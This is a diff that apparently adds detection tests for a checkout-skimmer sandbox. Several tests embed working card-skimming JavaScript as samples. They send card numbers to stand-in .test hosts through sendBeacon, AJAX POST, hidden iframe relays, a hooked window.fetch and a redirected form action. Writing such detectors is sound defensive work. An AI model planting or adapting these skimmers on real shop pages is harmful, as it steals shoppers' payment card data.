@@ -228,6 +228,103 @@ async def test_a_card_field_passes_for_a_kits_name_for_it_in_a_test(
     assert any("as #cardNumber" in s and "(pan)" in s for s in made), made
 
 
+async def test_a_card_field_passes_for_a_kits_name_in_a_list_it_tests(
+        detonator: Detonator) -> None:
+    """`ids.indexOf(e.target.id) !== -1`: a kit's own names for the fields, tested against what
+    the shopper leaves; the page's field of the same kind passes for the list's entry. A
+    name of another kind (an email field for `ccnum`) does not."""
+    code = """var ids = ['ccnum', 'ccexp', 'cccvc'];
+    document.addEventListener('focusout', function (e) {
+      var t = e.target, at = ids.indexOf(t.id);
+      if (at === 0 && t.value) navigator.sendBeacon('https://list-metrics.test/f', btoa(t.value));
+      if (['ccnum'].includes(t.name) && t.value) window.__seen = true;
+    }, true);"""
+    result = await detonator.detonate("list.js", code, templates=["magento1-onepage"])
+    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
+    made = [s for p in result.pages for s in p.synthesised]
+    assert any(s.endswith("as ccnum (pan)") for s in made), made
+    assert not any("email" in s for s in made), made
+
+
+async def test_a_compound_selector_is_made_whole_and_a_step_id_is_the_card_form(
+        detonator: Detonator) -> None:
+    """Newegg's kit: `#btnCreditCard.paymentBtn.creditcard` is a pay button (a name that says
+    button), made with its classes so the selector finds it; `#checkout` is the name of a
+    checkout step, so the page's card form answers to it."""
+    code = """window.onload = function () {
+      jQuery('#btnCreditCard.paymentBtn.creditcard').bind('mouseup touchend', function () {
+        var data = JSON.stringify(jQuery('#checkout').serializeArray());
+        setTimeout(function () {
+          jQuery.ajax({type: 'POST', url: 'https://compound-stats.test/g', data: data});
+        }, 250);
+      });
+    };"""
+    result = await detonator.detonate("compound.js", code, templates=["magento1-onepage"])
+    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
+    (found,) = exfiltration(result)
+    assert found.evidence["host"] == "compound-stats.test"
+    made = [s for p in result.pages for s in p.synthesised]
+    assert "#btnCreditCard (pay)" in made and "#co-payment-form (form)" in made, made
+
+
+async def test_a_message_or_a_name_handed_to_a_kits_own_frame_is_read_where_it_arrives(
+        detonator: Detonator) -> None:
+    """A frame of another host is answered inside the browser with an empty page (it loads,
+    with that origin); what the page posts into it, or leaves in its name before sending it
+    there, is recorded on arrival."""
+    post = """var f = document.createElement('iframe'), ready = false;
+    f.src = 'https://frame-relay.test/f.html'; f.style.display = 'none';
+    f.onload = function () { ready = true; };
+    document.body.appendChild(f);
+    document.addEventListener('change', function (e) {
+      if (ready && /cc_number/.test(e.target.name || ''))
+        f.contentWindow.postMessage({v: e.target.value}, 'https://frame-relay.test');
+    }, true);"""
+    named = """document.addEventListener('change', function (e) {
+      if (!/cc_number/.test(e.target.name || '') || !e.target.value) return;
+      var f = document.createElement('iframe'); f.src = 'about:blank';
+      document.body.appendChild(f);
+      f.contentWindow.name = btoa(e.target.value);
+      f.contentWindow.location = 'https://name-relay.test/blank.html';
+    }, true);"""
+    for name, code, host in (("post.js", post, "frame-relay.test"),
+                             ("named.js", named, "name-relay.test")):
+        result = await detonator.detonate(name, code, templates=["magento1-onepage"])
+        assert result.verdict is Verdict.MALICIOUS, (name, [p.interaction for p in result.pages])
+        [f] = [f for f in result.findings if f.rule == "canary-to-frame"]
+        assert f.evidence["destination"] == host
+
+
+async def test_a_file_that_replaces_fetch_is_tried_where_orders_go_through_fetch(
+        detonator: Detonator) -> None:
+    """Replacing `window.fetch` is doing something even where the page orders with
+    XMLHttpRequest: the next page is one whose order goes through fetch."""
+    code = r"""var real = window.fetch;
+    window.fetch = function (url, init) {
+      var body = init && init.body;
+      if (body && typeof body !== 'string') body = new URLSearchParams(body).toString();
+      if (body && /\d{12,}/.test(body.replace(/\D/g, '')))
+        real('https://fetch-copy.test/c', {method: 'POST', mode: 'no-cors', body: body});
+      return real.apply(this, arguments);
+    };"""
+    result = await detonator.detonate("hook.js", code, hints="var a;")  # two pages at most
+    tried = [p.template for p in result.pages]
+    by = {t.name: t for t in detonator.checkout.templates}
+    assert tried[0] == "magento1-onepage" and by[tried[0]].send_api == "xhr", tried
+    assert len(tried) == 2 and by[tried[1]].send_api == "fetch", tried
+    assert result.verdict is Verdict.MALICIOUS, [(p.template, p.verdict) for p in result.pages]
+
+
+async def test_a_kit_that_points_the_card_form_elsewhere_is_caught_without_a_submit(
+        detonator: Detonator) -> None:
+    code = """var f = document.querySelector('#co-payment-form');
+    if (f) f.action = 'https://form-relay.test/collect';"""
+    result = await detonator.detonate("action.js", code, templates=["magento1-onepage"])
+    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
+    [f] = [f for f in result.findings if f.rule == "card-form-action-to-untrusted-host"]
+    assert f.evidence["host"] == "form-relay.test"
+
+
 @pytest.mark.parametrize("selector", ["form#pay", "form.payment-form", "form[name=checkout]"])
 async def test_a_payment_form_asked_for_by_another_name_is_the_card_form(
         detonator: Detonator, selector: str) -> None:
